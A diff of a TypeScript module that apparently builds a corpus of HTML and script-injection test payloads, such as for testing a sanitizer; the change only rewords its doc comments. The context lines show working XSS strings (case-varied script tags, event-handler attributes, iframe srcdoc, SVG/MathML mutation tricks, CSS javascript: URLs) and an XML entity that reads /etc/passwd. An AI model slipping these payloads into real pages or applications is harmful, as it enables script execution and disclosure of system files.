@@ -1,6 +1,6 @@
 /**
- * Markup that runs something once somebody makes elements of it. What only differs in one word is made from a
- * list of the words.
+ * Markup that runs script when code turns it into elements. Payloads that differ in one word are built from a
+ * list of words.
  *
  * @module
  */
@@ -8,7 +8,7 @@ import { SCRIPT_ADDRESS } from './address-payloads.ts';
 
 const PWNED = 'pwned()';
 
-/** Script that stands there as script, however it is spelt. */
+/** Script elements in unusual spellings. */
 const scripts = [
   '<script>pwned()</script>',
   '<ScRiPt>pwned()</sCrIpT>',
@@ -30,7 +30,7 @@ const scripts = [
   '<template shadowrootmode=open><img src=x onerror=pwned()></template>',
 ];
 
-/** Elements that bring about an event of their own, as soon as they are there. */
+/** Elements that fire an event as soon as they are inserted. */
 const eager = [
   ['img src=x', 'onerror'],
   ['img src="data:,"', 'onload'],
@@ -71,7 +71,7 @@ const eager = [
   ['svg><animateTransform attributeName=transform dur=1s', 'onend'],
 ].map(([element, handler]) => `<${element} ${handler}=${PWNED}>`);
 
-/** Elements that wait for somebody to do something. */
+/** Elements that wait for an action of the user. */
 const patient = [
   'onclick',
   'onauxclick',
@@ -92,7 +92,7 @@ const patient = [
   'oncontentvisibilityautostatechange',
 ].map((handler) => `<b ${handler}="${PWNED}">bold</b>`);
 
-/** Ways to write an attribute that a filter may not see. */
+/** Spellings of an attribute that a filter can miss. */
 const attributes = [
   '<img src="x" onerror="pwned()">',
   "<img src='x' onerror='pwned()'>",
@@ -127,7 +127,7 @@ const attributes = [
   'x onfocus=pwned() autofocus tabindex=0',
 ];
 
-/** Elements that load, lead elsewhere or bend what the page means. */
+/** Elements that load, navigate or change how the page is read. */
 const elements = [
   `<iframe src="${SCRIPT_ADDRESS}"></iframe>`,
   '<iframe srcdoc="<script>parent.pwned()</script>"></iframe>',
@@ -163,7 +163,7 @@ const elements = [
   '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
 ];
 
-/** SVG and MathML, whose rules differ from those of the page around them. */
+/** SVG and MathML, whose rules differ from those of HTML. */
 const foreign = [
   '<svg><script>pwned()</script></svg>',
   '<svg><script>&#112;wned()</script></svg>',
@@ -185,7 +185,7 @@ const foreign = [
   '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwned() src>">',
 ];
 
-/** Style that loads, hides or runs. */
+/** Styles that load, hide or run. */
 const styles = [
   '<style>@import "javascript:pwned()"</style>',
   '<style>*{background:url("javascript:pwned()")}</style>',
